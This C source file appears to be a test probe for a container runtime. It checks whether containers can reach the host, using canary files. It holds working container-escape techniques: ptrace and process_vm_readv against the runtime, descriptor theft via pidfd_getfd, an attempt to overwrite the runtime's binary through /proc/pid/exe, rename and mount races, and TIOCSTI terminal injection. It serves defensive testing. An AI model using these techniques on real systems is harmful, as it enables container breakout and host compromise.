// SPDX-License-Identifier: Apache-2.0
// What the cases run inside containers (and, for the races, beside them): it looks for the host, spies on its neighbours, and
// tells everything about its own process.  One static program, so that it runs in any image.
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define TOKEN	       "HOST-CANARY-4f1d" /* host.py writes it into every file of the host */
#define NR_PIDFD_OPEN  434
#define NR_PIDFD_GETFD 438

static int findings;

static void found(const char *what, const char *path, const char *more)
{
	findings++;
	printf("ESCAPED %s %s %s\n", what, path, more ? more : "");
	fflush(stdout);
}

/* ---- look: is anything of the host in sight? ---- */

static bool file_has_token(int dir, const char *name)
{
	char buf[4096];
	struct stat st;
	ssize_t n;
	int fd;

	if (fstatat(dir, name, &st, 0) < 0 || !S_ISREG(st.st_mode))
		return false;
	fd = openat(dir, name, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 && memmem(buf, (size_t)n, TOKEN, strlen(TOKEN));
}

static void look_dir(int fd, const char *path)
{
	struct dirent *e;
	DIR *d = fdopendir(fd);
	int left = 64;

	if (!d) {
		close(fd);
		return;
	}
	while ((e = readdir(d)) && left-- > 0) {
		if (strcmp(e->d_name, "host-canary") == 0)
			found("name", path, e->d_name);
		else if (e->d_type == DT_REG && file_has_token(dirfd(d), e->d_name))
			found("text", path, e->d_name);
	}
	closedir(d);
}

static void look_at(const char *path)
{
	int fd;

	if (file_has_token(AT_FDCWD, path))
		found("text", path, NULL);
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd >= 0)
		look_dir(fd, path);
}

static void look_around(void)
{
	char cwd[4096];
	long r = syscall(SYS_getcwd, cwd, sizeof(cwd));

	if (r < 0 || cwd[0] != '/')
		found("cwd", r < 0 ? strerror(errno) : cwd, NULL);
	for (int fd = 3; fd < 1024; fd++) {
		char path[64], target[512];
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		found("fd", path, target);
	}
}

/* The standard descriptors may be files of the caller, but never a file of the host that has the token. */
static void look_stdio(void)
{
	for (int fd = 0; fd < 3; fd++) {
		char buf[256];
		struct stat st;
		ssize_t n;

		if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode))
			continue;
		n = pread(fd, buf, sizeof(buf), 0);
		if (n > 0 && memmem(buf, (size_t)n, TOKEN, strlen(TOKEN)))
			found("stdio", "a file of the host", NULL);
	}
}

static int do_look(char **paths)
{
	static const char *const usual[] = {
		".",	       "..",	       "../..",	       "/",	      "/dev",
		"/dev/null",   "/dev/console", "/proc",	       "/sys",	      "/etc",
		"/etc/passwd", "/run",	       "/tmp",	       "/work",	      "/mnt",
		"/masked",     "/mount",       "/masked-file", "/file-mount", "/vol",
		"/data",       "/deep",	       "/deep/a",      "/deep/a/b",   "/readonly",
		"/old_root",   "/.old",	       "/oldroot",
	};

	look_around();
	look_stdio();
	for (size_t i = 0; i < sizeof(usual) / sizeof(usual[0]); i++)
		look_at(usual[i]);
	for (; *paths; paths++)
		look_at(*paths);
	printf("INSIDE %d\n", findings);
	return 0;
}

/* ---- spy: attack whatever joins this pid namespace ---- */

struct known {
	dev_t dev;
	ino_t ino;
};

static struct known inside[64];
static size_t inside_len;
static dev_t host_dev;
static ino_t host_ino;
/* With CAP_SYS_PTRACE over the runtime's own user namespace the kernel lets the spy look: then only what it could do with it
 * counts. */
static bool entitled;

static bool is_inside(const struct stat *st)
{
	for (size_t i = 0; i < inside_len; i++) {
		if (inside[i].dev == st->st_dev && inside[i].ino == st->st_ino)
			return true;
	}
	return false;
}

/* The programs of the image: what an exec may legally have become. */
static void learn_inside(void)
{
	static const char *const dirs[] = {"/bin", "/usr/bin", "/sbin"};

	for (size_t i = 0; i < 3; i++) {
		DIR *d = opendir(dirs[i]);
		struct dirent *e;

		while (d && (e = readdir(d)) && inside_len < 64) {
			struct stat st;

			if (fstatat(dirfd(d), e->d_name, &st, 0) < 0 || !S_ISREG(st.st_mode) ||
			    is_inside(&st))
				continue;
			inside[inside_len].dev = st.st_dev;
			inside[inside_len++].ino = st.st_ino;
		}
		if (d)
			closedir(d);
	}
}

/* 1: the process is still the runtime, 0: it is a program of the image, -1: nobody may say, or it is gone. */
static int is_runtime(pid_t pid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &st) < 0)
		return -1;
	return !is_inside(&st);
}

static void report(pid_t pid, const char *what)
{
	char number[32];

	snprintf(number, sizeof(number), "pid %d", pid);
	if (!entitled && is_runtime(pid) == 1)
		found(what, number, "of the runtime");
}

static void spy_descriptors(pid_t pid)
{
	char path[80];
	struct dirent *e;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d))) {
		struct stat st;
		int fd;

		if (e->d_name[0] == '.' || fstatat(dirfd(d), e->d_name, &st, 0) < 0)
			continue;
		if (S_ISDIR(st.st_mode) && faccessat(dirfd(d), e->d_name, F_OK, 0) == 0) {
			fd = openat(dirfd(d), e->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (fd >= 0 && faccessat(fd, "host-canary", F_OK, 0) == 0)
				found("fd", path, "a directory of the host");
			if (fd >= 0)
				close(fd);
		} else if (S_ISREG(st.st_mode) && file_has_token(dirfd(d), e->d_name)) {
			found("fd", path, "a file of the host");
		}
	}
	closedir(d);
}

static void spy_links(pid_t pid)
{
	static const char *const names[] = {"root", "cwd"};

	for (size_t i = 0; i < 2; i++) {
		char path[96];
		struct stat st;

		snprintf(path, sizeof(path), "/proc/%d/%s/canary/host-canary", pid, names[i]);
		if (stat(path, &st) == 0)
			found(names[i], path, "reaches the host");
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		if (stat(path, &st) == 0 && st.st_dev == host_dev && st.st_ino == host_ino)
			found(names[i], path, "is the host's root");
	}
}

static void spy_files(pid_t pid)
{
	static const char *const names[] = {"mem", "environ", "maps", "auxv", "syscall", "stack"};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[64], buf[64];
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		fd = open(path, (i == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = i == 0 ? 1 : read(fd, buf, sizeof(buf));
		if (n > 0)
			report(pid, names[i]);
		close(fd);
	}
}

/* A descriptor of the program file outlives its process: then nothing says any more that it is busy. */
static void spy_exe(pid_t pid)
{
	char path[64];
	struct stat st;
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && !is_inside(&st)) {
		if (!entitled)
			found("exe", path, "of the runtime can be opened");
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		for (int i = 0; i < 2000 && kill(pid, 0) == 0; i++)
			usleep(100);
		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		/* A sealed copy in memory can be opened, but not written. */
		if (w >= 0 && write(w, TOKEN, strlen(TOKEN)) > 0)
			found("exe", path, "of the runtime was OVERWRITTEN");
		if (w >= 0)
			close(w);
	}
	close(fd);
}

static void spy_calls(pid_t pid)
{
	char byte;
	struct iovec here = {&byte, 1};
	int pidfd, fd;

	if (syscall(SYS_kcmp, getpid(), pid, 0 /* KCMP_FILE */, 0, 0) >= 0)
		report(pid, "kcmp");
	pidfd = (int)syscall(NR_PIDFD_OPEN, pid, 0);
	for (int n = 0; pidfd >= 0 && n < 12; n++) {
		fd = (int)syscall(NR_PIDFD_GETFD, pidfd, n, 0);
		if (fd < 0)
			continue;
		report(pid, "pidfd_getfd");
		if (faccessat(fd, "host-canary", F_OK, 0) == 0)
			found("pidfd_getfd", "a directory", "of the host");
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
	/* An address that is not mapped is EFAULT for who has the right, EPERM for who has not. */
	struct iovec there = {(void *)8, 1};

	if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		report(pid, "process_vm_readv");
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		report(pid, "ptrace");
		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
		    waitpid(pid, NULL, __WALL) == pid)
			ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

/* Once for each process, as soon as it is seen; what has become the container's own program goes on. */
static void spy_stop(pid_t pid, pid_t last)
{
	char path[64], comm[32] = "";
	int fd;

	if (pid != last)
		kill(pid, SIGSTOP);
	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (read(fd, comm, sizeof(comm) - 1) > 0 && strcmp(comm, "true\n") == 0)
		kill(pid, SIGCONT);
	close(fd);
}

static bool is_neighbour(const char *name, pid_t self)
{
	pid_t pid = (pid_t)strtol(name, NULL, 10);

	return pid > 1 && pid != self;
}

/*
 * HOW: "files" or "calls", because a traced process would be too slow for the other attacks to see anything; with "-entitled"
 * behind it for who has CAP_SYS_PTRACE over the runtime. Or "stop".
 */
static int do_spy(const char *how, const char *ready)
{
	bool calls = strncmp(how, "calls", 5) == 0;
	pid_t self = getpid(), last = 0;
	unsigned long attempts = 0;

	entitled = strstr(how, "-entitled");
	learn_inside();
	close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (;;) {
		struct dirent *e;
		DIR *d = opendir("/proc");

		while (d && (e = readdir(d))) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' ||
			    !is_neighbour(e->d_name, self))
				continue;
			pid_t pid = (pid_t)strtol(e->d_name, NULL, 10);

			if (strcmp(how, "stop") == 0) {
				spy_stop(pid, last);
			} else if (calls) {
				spy_calls(pid);
			} else {
				spy_exe(pid);
				spy_links(pid);
				spy_files(pid);
				spy_descriptors(pid);
			}
			if (pid != last && ++attempts)
				printf("SAW %d\n", last = pid);
			fflush(stdout);
		}
		if (d)
			closedir(d);
	}
	return 0;
}

/* ---- races ---- */

static int do_flip(char **pairs)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (unsigned long n = 0;; n++) {
		for (char **p = pairs; p[0] && p[1]; p += 2) {
			if (syscall(SYS_renameat2, AT_FDCWD, p[0], AT_FDCWD, p[1],
				    RENAME_EXCHANGE) < 0 &&
			    n == 0) {
				perror("renameat2");
				return 1;
			}
		}
		if (n == 100) {
			printf("flipping\n");
			fflush(stdout);
		}
	}
}

/* Mounts SOURCE (a tree with links) on TARGET and takes it off again, in a tree whose mounts propagate. */
static int do_mount_flip(const char *source, const char *target)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (unsigned long n = 0;; n++) {
		if (mount(source, target, NULL, MS_BIND, NULL) < 0 && n == 0) {
			perror("mount");
			return 1;
		}
		if (n == 20) {
			printf("flipping\n");
			fflush(stdout);
		}
		umount2(target, MNT_DETACH);
	}
}

/* ---- audit: the state in which the program was started ---- */

static void show_file(const char *title, const char *path)
{
	char buf[65536];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	printf("== %s\n", title);
	fflush(stdout);
	while (fd >= 0 && (n = read(fd, buf, sizeof(buf))) > 0) {
		if (write(1, buf, (size_t)n) < 0)
			break;
	}
	if (fd >= 0)
		close(fd);
	printf("\n");
}

static void show_signals(void)
{
	struct {
		void *handler;
		unsigned long flags;
		void *rest;
		unsigned long mask;
	} k = {0};

	printf("ignored");
	for (int s = 1; s <= 64; s++) {
		if (syscall(SYS_rt_sigaction, s, NULL, &k, 8) == 0 && k.handler == (void *)SIG_IGN)
			printf(" %d", s);
	}
	printf("\n");
}

static int do_audit(void)
{
	char cwd[4096] = "";
	mode_t mask = umask(0);
	int sig = -1;

	umask(mask);
	printf("== process\numask %03o\n", mask);
	printf("cwd %s\n", syscall(SYS_getcwd, cwd, sizeof(cwd)) < 0 ? strerror(errno) : cwd);
	printf("pid %d\nsid %d\npgid %d\n", getpid(), getsid(0), getpgrp());
	printf("dumpable %d\n", prctl(PR_GET_DUMPABLE));
	printf("keepcaps %d\n", prctl(PR_GET_KEEPCAPS));
	printf("securebits %d\n", prctl(PR_GET_SECUREBITS));
	prctl(PR_GET_PDEATHSIG, &sig);
	printf("pdeathsig %d\n", sig);
	printf("keyring %ld\n", syscall(SYS_keyctl, 0, -3, 0));
	show_signals();
	printf("fds");
	for (int fd = 0; fd < 65536; fd++) {
		if (fcntl(fd, F_GETFD) >= 0)
			printf(" %d", fd);
	}
	printf("\n");
	show_file("status", "/proc/self/status");
	show_file("mounts", "/proc/self/mountinfo");
	show_file("limits", "/proc/self/limits");
	show_file("oom_score_adj", "/proc/self/oom_score_adj");
	show_file("label", "/proc/self/attr/current");
	show_file("cgroup", "/proc/self/cgroup");
	printf("== end\n");
	return 0;
}

/* What an attacker in a container does to the terminal or the file that it got as standard input: type into it. */
static int do_type(void)
{
	static const char text[] = "echo typed\n";
	int r = 0;

	for (size_t i = 0; text[i] && r == 0; i++)
		r = ioctl(0, TIOCSTI, &text[i]);
	printf("TIOCSTI %s\n", r < 0 ? strerror(errno) : "worked");
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "look";

	if (strcmp(what, "look") == 0)
		return do_look(argc > 1 ? argv + 2 : argv + argc);
	if (strcmp(what, "spy") == 0 && argc > 5) {
		host_dev = (dev_t)strtoull(argv[4], NULL, 10);
		host_ino = (ino_t)strtoull(argv[5], NULL, 10);
		return do_spy(argv[2], argv[3]);
	}
	if (strcmp(what, "flip") == 0)
		return do_flip(argv + 2);
	if (strcmp(what, "mount-flip") == 0 && argc > 3)
		return do_mount_flip(argv[2], argv[3]);
	if (strcmp(what, "audit") == 0)
		return do_audit();
	if (strcmp(what, "type") == 0)
		return do_type();
	if (strcmp(what, "sleep") == 0) {
		printf("INSIDE 0\n");
		fflush(stdout);
		for (;;)
			pause();
	}
	fprintf(stderr, "usage: probe look|spy|flip|mount-flip|audit|type|sleep ...\n");
	return 2;
}
